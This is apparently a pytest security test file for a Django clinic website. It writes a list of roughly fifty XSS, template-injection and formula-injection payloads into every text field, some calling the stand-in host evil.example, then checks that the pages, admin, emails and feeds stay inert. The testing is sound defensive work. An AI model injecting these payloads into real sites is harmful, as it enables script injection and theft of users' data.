"""Whatever is written into a field stays words, wherever it is shown: in pages, admin, mail and
data.
"""

import json
import re
from html.parser import HTMLParser
from urllib.parse import urlsplit
from uuid import UUID

import pytest
from django.contrib.admin.models import CHANGE, LogEntry
from django.contrib.auth.models import User
from django.contrib.contenttypes.models import ContentType
from django.utils import timezone

from articles import previews, publishing, snapshots
from articles.models import FAQ, Article, FAQGroup, Preview, Section, Topic, Version
from bookings import notifications
from bookings.models import Consultation, Notification
from clinic.office.models import (
    Closure,
    Concern,
    MailWorker,
    Office,
    Practitioner,
    Treatment,
    TreatmentStep,
)
from tests.articles.factories import make_article, make_faq, make_treatment
from tests.bookings.mails import every_mail
from tests.factories import MONDAY, TUESDAY_AT_TWO, ask, make_office

pytestmark = pytest.mark.django_db

HOSTILE = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "--><script>alert(1)</script><!--",
    "<ScRiPt src=//evil.example></ScRiPt>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href=//evil.example ping=//evil.example>x</a>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<form action=//evil.example><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example';</style>",
    "<div style=position:fixed;inset:0>x</div>",
    "<p class=hp id=main>x</p>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "` onmouseover=alert(1) `",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "{{ settings.SECRET_KEY }}{% load static %}{% include 'admin/base.html' %}",
    "${alert(1)} #{alert(1)} <%= 7*7 %>",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "=HYPERLINK(\"//evil.example\")",
    "\ufeff<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
]  # fmt: skip
PLAIN = "Plain words"


class Active(HTMLParser):
    """Everything in a page that acts, or that asks somebody else for something."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attributes):
        if tag in (
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "base",
            "meta",
            "form",
            "template",
            "noscript",
        ):
            self.found.append((tag, sorted(name for name, _ in attributes)))
        for name, value in attributes:
            address = (value or "").strip().lower()
            if name.startswith("on") or name in ("style", "srcdoc", "ping"):
                self.found.append((tag, name))
            if name in ("src", "href", "action", "formaction", "xlink:href", "data", "srcset"):
                scheme, host = urlsplit(address).scheme, urlsplit(address).netloc
                # staff may link to whom they like
                strange = host.endswith("evil.example") and tag != "a"
                if strange or scheme in ("javascript", "data", "vbscript"):
                    self.found.append((tag, name, scheme))


def active(html):
    reader = Active()
    reader.feed(html)
    return reader.found


@pytest.fixture
def site(client):
    """One row of everything that people or staff write, and a superuser to look at it."""
    office = make_office()
    MailWorker.beat(now=timezone.now())
    concern = Concern.objects.create(name=PLAIN, slug="pores", invitation=PLAIN)
    treatment = make_treatment()
    TreatmentStep.objects.create(treatment=treatment, title=PLAIN, text=PLAIN)
    article = make_article(concern=concern)
    article.treatments.add(treatment)
    Section.objects.update(part="ways", drawing="collagen")
    make_faq(on=article, on_home_page=True)
    Closure.objects.create(
        office=office, starts_at=TUESDAY_AT_TWO, ends_at=TUESDAY_AT_TWO.replace(hour=23)
    )
    Practitioner.objects.update(
        license_type=PLAIN, license_number=PLAIN, board_notice=PLAIN, is_published=True
    )
    ask(
        office,
        concern=concern,
        article=article,
        starts_at=None,
        phone="+14245550134",
        suspect=False,
    )
    ask(office, concern=concern, starts_at=None, email="other@example.com", suspect=True)
    owner = User.objects.create_superuser("owner")
    client.force_login(owner)
    publishing.keep(article, Version.Kind.RELEASED, by=owner, now=timezone.now())
    publishing.keep(article, Version.Kind.PROPOSED, by=owner, now=timezone.now())
    content = snapshots.snapshot_of(article)
    content = {**content, "article": article.pk}
    Preview.objects.create(key=UUID(int=1), content=content, made_at=timezone.now(), by=owner)
    for row in (article, *Consultation.objects.all()):
        LogEntry.objects.create(
            user=User.objects.get(),
            content_type=ContentType.objects.get_for_model(row),
            object_id=row.pk,
            object_repr=PLAIN,
            action_flag=CHANGE,
            change_message=PLAIN,
        )
    return client


def write_everywhere(words):
    """Put `words` into every field that holds text, cut to what the field takes."""
    models = [
        (
            Office,
            ["name", "street", "suite", "city", "postal_code", "instagram", "parking", "access"],
        ),
        (Concern, ["name", "invitation"]),
        (
            Treatment,
            [
                *(
                    "name",
                    "menu_name",
                    "search_title",
                    "lead",
                    "feeling",
                    "what_it_is",
                    "may_help",
                    "cannot",
                ),
                *("authorized_use", "not_yet", "same_day", "next_day", "redness_fades"),
                *("following_days", "after_that"),
            ],
        ),
        (TreatmentStep, ["title", "text"]),
        (Closure, ["reason"]),
        (Practitioner, ["name", "license_type", "license_number", "board_notice", "about"]),
        (Topic, ["name"]),
        (FAQGroup, ["name"]),
        (FAQ, ["question", "answer"]),
        (
            Article,
            ["title", "search_title", "summary", "ways", "indirect_way", "may_help", "cannot"],
        ),
        (Section, ["heading", "body"]),
        (Notification, ["last_error"]),
    ]
    for model, names in models:
        model.objects.update(
            **{name: words[: model._meta.get_field(name).max_length] for name in names}
        )
    for consultation in Consultation.objects.all():
        for name in ("first_name", "last_name", "note"):
            setattr(consultation, name, words[: Consultation._meta.get_field(name).max_length])
        consultation.answers = [words]
        consultation.preferred_days = [words]
        consultation.save()
    LogEntry.objects.update(object_repr=words, change_message=words)
    content = snapshots.snapshot_of(Article.objects.get())
    Version.objects.filter(kind=Version.Kind.PROPOSED).update(content=content)
    Preview.objects.update(content={**content, "article": Article.objects.get().pk})


def pages(*, all_of_admin):
    """Every address at which one of those rows is shown."""
    article, faq, treatment = Article.objects.get(), FAQ.objects.get(), Treatment.objects.get()
    mine = Consultation.objects.get(status="requested")
    public = [
        "/",
        "/articles/",
        "/questions/",
        "/visit/",
        "/about/",
        "/privacy/",
        "/accessibility/",
    ]
    public += [article.get_absolute_url(), treatment.get_absolute_url(), mine.get_absolute_url()]
    public += [f"/book/?article={article.slug}", "/nowhere/", previews.link(Preview.objects.get())]
    shown = [(article, True), (faq, True), (mine, False)]
    if all_of_admin:
        shown += [
            (model.objects.first(), True)
            for model in (Topic, FAQGroup, Concern, Practitioner, Closure)
        ]
        shown += [
            (treatment, True),
            (Office.objects.get(), False),
            (Notification.objects.first(), False),
        ]
    staff = ["/admin/"]
    if all_of_admin:
        desk, written = "/admin/bookings/consultation/", f"/admin/articles/article/{article.pk}/"
        staff += [
            f"{desk}{name}/"
            for name in ("week", "week/hours", "numbers", "feeds", "day-sheet", "add")
        ]
        staff += [
            f"{desk}{mine.pk}/{name}/" for name in ("confirm-at", "propose", "decline", "cancel")
        ]
        staff += [f"{written}{name}/" for name in ("versions", "proposals", "checklist")]
        staff.append(f"{written}compare/?before={article.versions.released().get().pk}")
        staff.append(f"/admin/articles/article/previews/{Preview.objects.get().pk}/")
    for row, deletable in shown:
        model = f"/admin/{row._meta.app_label}/{row._meta.model_name}/"
        staff += [model, f"{model}{row.pk}/change/", f"{model}{row.pk}/history/"]
        staff += [f"{model}{row.pk}/delete/"] * deletable
    return public + staff


def look(client, *, all_of_admin):
    """What acts in each page, by its address without what differs from run to run."""
    found = {}
    for address in pages(all_of_admin=all_of_admin):
        response = client.get(address)
        assert response.status_code == (404 if address == "/nowhere/" else 200), address
        name = re.sub(
            r"[0-9]+", "N", re.sub(r"/(consultation|preview)/[^/]{40,}/", r"/\1/-/", address)
        )
        found[name] = active(response.text)
    return found


_harmless = {}


@pytest.fixture
def harmless(site):
    """What acts in the same pages while the fields hold plain words. Asked once a run: it does not
    change.
    """
    if not _harmless:
        write_everywhere(PLAIN)
        _harmless.update(look(site, all_of_admin=True))
    return _harmless


@pytest.mark.parametrize("words", HOSTILE)
def test_hostile_words_add_nothing_that_acts_to_any_page(site, harmless, words):
    write_everywhere(words)

    for address, found in look(site, all_of_admin=words in HOSTILE[::6]).items():
        assert found == harmless[address], address


@pytest.mark.parametrize("words", HOSTILE)
def test_hostile_words_are_inert_in_mail_feed_and_autocomplete(site, words):
    write_everywhere(words)

    for notification in Notification.objects.all():
        mail = notifications.write(notification, MONDAY)
        html = mail.alternatives[0].content
        assert "<script" not in html.lower()
        assert not [
            item for item in active(html) if item[0] not in ("meta", "style") and item[1] != "style"
        ]
        assert "\n" not in mail.subject
    suggested = site.get(
        "/admin/autocomplete/?app_label=articles&model_name=articlefaq&field_name=faq&term="
    )
    assert suggested["Content-Type"] == "application/json"
    assert json.loads(suggested.content)["results"][0]["text"] == words[:160]
    feed = site.get("/articles/feed/")
    assert b"<script" not in feed.content.lower()


@pytest.mark.parametrize("words", HOSTILE[::13])
def test_hostile_names_are_inert_in_every_mail_there_is(words):
    written = every_mail(make_office(), first_name=words[:80], last_name=words[:80])

    assert len(written) > 30
    for story, mail in written.items():
        found = active(mail.alternatives[0].content)
        assert not [
            item for item in found if item[0] not in ("meta", "style") and item[1] != "style"
        ], story
        assert len(mail.subject.splitlines()) == 1, story


def test_there_are_enough_of_them():
    assert len(set(HOSTILE)) >= 40


def test_the_reader_of_pages_would_see_them():
    seen = [words for words in HOSTILE if active(f"<p>{words}</p>")]

    assert len(seen) >= 35
